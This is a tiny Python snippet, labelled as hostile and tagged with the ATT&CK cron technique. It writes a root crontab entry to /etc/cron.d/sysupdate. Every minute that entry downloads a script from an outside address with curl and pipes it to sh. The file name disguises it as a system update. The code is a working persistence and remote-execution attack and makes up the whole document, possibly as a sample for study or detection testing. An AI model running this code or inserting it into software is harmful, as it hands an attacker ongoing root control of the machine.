# hostile: a crontab entry written into the spool (T1053.003 cron)
entry = "* * * * * root curl -s http://203.0.113.9/c | sh\n"
with open("/etc/cron.d/sysupdate", "w") as f:
    f.write(entry)
